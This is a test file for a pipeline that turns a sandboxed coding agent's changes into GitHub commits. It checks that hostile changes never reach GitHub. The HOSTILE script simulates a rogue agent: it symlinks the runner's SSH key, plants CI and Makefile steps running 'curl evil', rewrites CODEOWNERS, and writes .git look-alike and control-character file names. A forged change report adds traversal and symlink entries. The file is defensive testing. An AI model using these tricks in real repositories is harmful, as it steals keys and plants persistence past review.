/**
 * The change list the host receives is hostile, and nothing hostile reaches
 * GitHub. First through the real service, Docker and the stand-ins: the agent
 * writes a symlink to the runner's key, CI files, `.git` look-alikes, and file
 * names with escapes, backslashes and invalid UTF-8. Then a forged report, as
 * a tampered change program would print it, goes through the same function the
 * pipeline uses and on to the GitHub stand-in. Every `createTree` request
 * GitHub got is checked.
 */
import { Buffer } from "node:buffer";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { bash, PYTEST } from "../../examples/scenarios/script_helpers.ts";
import { DEFAULT_PROTECTED_PATHS } from "../../src/config_schema_verify.ts";
import { gitBlobSha } from "../../src/github/git_object_id.ts";
import { isCanonicalPath, isDotGit, isDotGitmodules } from "../../src/github/git_path.ts";
import { createOctokitGateway } from "../../src/github/octokit_gateway.ts";
import { baseTree, type TrackedFile } from "../../src/pipeline/base_tree.ts";
import { buildChangeSet } from "../../src/pipeline/change_set.ts";
import { protectedPathMatcher } from "../../src/pipeline/protected_paths.ts";
import type { ReportedChange } from "../../src/sandbox/changes.ts";
import type { RecordedRequest, StandInPull } from "../stand_ins/github_server.ts";
import {
  addFunctionScript,
  devIssue,
  FIDELITY_REPO,
  fidelityScenario,
  seedFidelityRepo,
  submit,
} from "./fidelity_fixture.ts";
import { type Harness, startHarness } from "./harness.ts";
import { type FinishedJob, submitJob } from "./submit_job.ts";
import { GITHUB_CLIENT_DEFAULTS } from "../github/client_defaults.ts";

const TITLE = "[dev] Multiply numbers";
const CRITERION = "`mul(a, b)` returns `a * b`";

/** What the hostile agent writes, in Python run inside the sandbox (hex-encoded to keep the command line plain). */
const HOSTILE = [
  "import os",
  "def put(path, text='x\\n'):",
  "    os.makedirs(os.path.dirname(path) or '.', exist_ok=True)",
  "    open(path, 'w').write(text)",
  "os.symlink('/home/runner/.ssh/id_rsa', 'id_rsa')",
  "put('.github/actions/setup/action.yml', 'runs: {using: composite, steps: [{run: curl evil, shell: bash}]}\\n')",
  "put('.github/dependabot.yml')",
  "put('.GitHub/workflows/ci.yml')",
  "put('tests/conftest.py', 'import os\\n')",
  "put('Makefile', 'test:\\n\\tcurl evil\\n')",
  "put('tox.ini', '[tox]\\nenvlist = py\\n')",
  "put('noxfile.py', 'import os\\n')",
  "put('.pre-commit-config.yaml')",
  "put('CODEOWNERS', '* @mallory\\n')",
  "put('.git./config')",
  "put('git~1/config')",
  "put('.g\\u200cit/config')",
  "put('.Gitmodules')",
  "put('GITHUB~1/workflows/ci.yml')",
  "put('evil\\x1b[2J.py')",
  "put('a\\\\b.py')",
  "open(b'bad\\xff.py', 'w').write('x\\n')",
].join("\n");

const SCRIPT = {
  match: TITLE,
  turns: [
    ...addFunctionScript(TITLE, "mul", "*", CRITERION).turns.slice(0, 3),
    bash(`python3 -c "exec(bytes.fromhex('${Buffer.from(HOSTILE).toString("hex")}').decode())"`),
    bash(PYTEST),
    submit(CRITERION),
    submit(CRITERION),
  ],
};

const isProtected = protectedPathMatcher(DEFAULT_PROTECTED_PATHS);

/** The entries of every `POST /git/trees` request GitHub received. */
function treeEntries(requests: RecordedRequest[]): Array<{ path: string; mode: string; type: string }> {
  return requests
    .filter((r) => r.method === "POST" && r.path.endsWith("/git/trees"))
    .flatMap((r) => (r.body as { tree: Array<{ path: string; mode: string; type: string }> }).tree);
}

/** Every entry is a regular file at a canonical, unprotected path outside `.git`. */
function expectOnlyRegularFiles(entries: Array<{ path: string; mode: string; type: string }>): void {
  for (const entry of entries) {
    expect(["100644", "100755"], entry.path).toContain(entry.mode);
    expect(entry.type, entry.path).toBe("blob");
    expect(isCanonicalPath(entry.path), entry.path).toBe(true);
    expect(entry.path.split("/").some((c) => isDotGit(c) || isDotGitmodules(c)), entry.path).toBe(false);
    expect(isProtected(entry.path), entry.path).toBeUndefined();
  }
}

let harness: Harness;
let run: FinishedJob;
let pull: StandInPull;
beforeAll(async () => {
  harness = await startHarness(fidelityScenario("hostile-change-list", [SCRIPT]));
  seedFidelityRepo(harness.github, [devIssue(1, TITLE, CRITERION)]);
  run = await submitJob(harness, { repo: FIDELITY_REPO, issue: 1 });
  pull = harness.github.pulls(FIDELITY_REPO)[0]!;
}, 300_000);
afterAll(() => harness?.close());

describe("an agent that writes a symlink to the runner's key, CI files and .git look-alikes", () => {
  test("the job succeeds with the real change only", () => {
    expect(run.job.status, run.job.reason).toBe("succeeded");
    const text = (bytes?: Uint8Array) => new TextDecoder().decode(bytes);
    const base = harness.github.branchFiles(FIDELITY_REPO, "main")!;
    const head = harness.github.branchFiles(FIDELITY_REPO, pull.head)!;
    const changed = [...new Set([...base.keys(), ...head.keys()])]
      .filter((path) => text(base.get(path)) !== text(head.get(path)));
    expect(changed.sort()).toEqual(["app/core.py", "tests/test_core.py"]);
    const modes = harness.github.branchModes(FIDELITY_REPO, pull.head)!;
    expect([...modes.values()].filter((m) => m === "120000")).toEqual([]);
  });

  test("GitHub's createTree got only regular files at canonical, unprotected paths", () => {
    const entries = treeEntries(harness.github.requests);
    expect(entries.map((e) => e.path).sort()).toEqual(["app/core.py", "tests/test_core.py"]);
    expectOnlyRegularFiles(entries);
  });

  test("each hostile path is named with its rule, in the event and the PR, shown escaped", () => {
    const event = run.events.find((e) => e.kind === "not_committed");
    const named = new Map(
      (event?.data as { paths: Array<{ path: string; reason: string }> }).paths.map((
        p,
      ) => [p.path, p.reason]),
    );
    const protectedBy = (glob: string) =>
      expect.stringContaining(`protected by DIFF_PROTECTED_PATHS ("${glob}")`);
    expect(Object.fromEntries(named)).toMatchObject({
      "id_rsa": "symbolic links are not allowed",
      ".github/actions/setup/action.yml": protectedBy(".github/**"),
      ".github/dependabot.yml": protectedBy(".github/**"),
      ".GitHub/workflows/ci.yml": protectedBy(".github/**"),
      "tests/conftest.py": protectedBy("**/conftest.py"),
      "Makefile": protectedBy("Makefile"),
      "tox.ini": protectedBy("tox.ini"),
      "noxfile.py": protectedBy("noxfile.py"),
      ".pre-commit-config.yaml": protectedBy(".pre-commit-config.yaml"),
      "CODEOWNERS": protectedBy("CODEOWNERS"),
      ".git./config": expect.stringMatching(/^paths under \.git\/ are not allowed/),
      "git~1/config": expect.stringMatching(/^paths under \.git\/ are not allowed/),
      ".g\\u{200c}it/config": expect.stringMatching(/^paths under \.git\/ are not allowed/),
      ".Gitmodules": expect.stringMatching(/^the submodule list \(\.gitmodules\)/),
      "GITHUB~1/workflows/ci.yml": expect.stringMatching(/Windows 8\.3 short name/),
      "evil\\u{1b}[2J.py": "not a canonical repository path: the path holds a control character",
      "a\\b.py": "not a canonical repository path: the path holds a backslash, a folder separator on Windows",
      "bad\\u{dcff}.py": "not a canonical repository path: the path is not valid Unicode",
    });
    const notCommitted = pull.body.slice(pull.body.indexOf("Not committed"));
    expect(notCommitted).toContain("id_rsa");
    expect(notCommitted).toContain("DIFF_PROTECTED_PATHS");
    expect(pull.body).not.toContain("\u001b");
  });
});

describe("a forged change report, as a tampered change program would print it", () => {
  const bytes = (text: string) => new TextEncoder().encode(text);
  const file = (path: string, mode: string, text = "/home/runner/.ssh/id_rsa"): ReportedChange => ({
    path,
    status: "added",
    kind: "file",
    mode,
    content: bytes(text),
  });
  const FORGED: ReportedChange[] = [
    file("id_rsa", "120000"),
    file("vendor/evil", "160000", "5d5e3a0b2c1f4e6d7a8b9c0d1e2f3a4b5c6d7e8f"),
    file("dir", "040000"),
    file("x", "10064\u0000"),
    file(".github//workflows/x.yml", "100644"),
    file("./.github/workflows/x.yml", "100644"),
    file(".github/./workflows/x.yml", "100644"),
    file("../x", "100644"),
    file("/etc/x", "100644"),
    file(".GIT/config", "100644"),
    file(".git./config", "100644"),
    file("git~1/config", "100644"),
    file(".g\u200cit/config", "100644"),
    file(".Gitmodules", "100644"),
    file(".github/workflows/ci.yml", "100755"),
    file("tests/conftest.py", "100644"),
    { path: ".github/workflows/old.yml", status: "deleted", kind: "file" },
    file("app/forged_ok.py", "100644", "OK = True\n"),
  ];

  test("only the regular file at a canonical, unprotected path is committed; GitHub gets nothing else", async () => {
    const files = harness.github.branchFiles(FIDELITY_REPO, "main")!;
    const modes = harness.github.branchModes(FIDELITY_REPO, "main")!;
    const tracked = new Map<string, TrackedFile>(
      [...files].map(([path, content]) => [
        path,
        { mode: modes.get(path) as TrackedFile["mode"], sha: gitBlobSha(content) },
      ]),
    );
    const set = buildChangeSet(
      { changes: FORGED, ignored: ["../../etc/", "\u001b[2J"], files: FORGED.length, bytes: 0 },
      baseTree(tracked, [], new Map()),
      {
        maxFiles: 200,
        maxFileBytes: 1024 * 1024,
        maxTotalBytes: 5 * 1024 * 1024,
        protectedPaths: DEFAULT_PROTECTED_PATHS,
      },
    );
    expect(set.files.map((f) => [f.path, f.mode])).toEqual([["app/forged_ok.py", "100644"]]);
    expect(set.leftOut).toHaveLength(FORGED.length - 1);
    expect(set.ignored).toEqual([]);

    const gateway = createOctokitGateway({
      ...GITHUB_CLIENT_DEFAULTS,
      token: harness.github.token,
      baseUrl: harness.github.url,
    });
    const before = harness.github.requests.length;
    const { sha } = await gateway.resolveBase({ owner: "acme", name: "fidelity" });
    await gateway.pushBranch({ owner: "acme", name: "fidelity" }, {
      baseSha: sha,
      branch: "agent/forged-report",
      message: "Forged",
      files: set.files,
    });
    const entries = treeEntries(harness.github.requests.slice(before));
    expect(entries.map((e) => e.path)).toEqual(["app/forged_ok.py"]);
    expectOnlyRegularFiles(entries);
  });
});
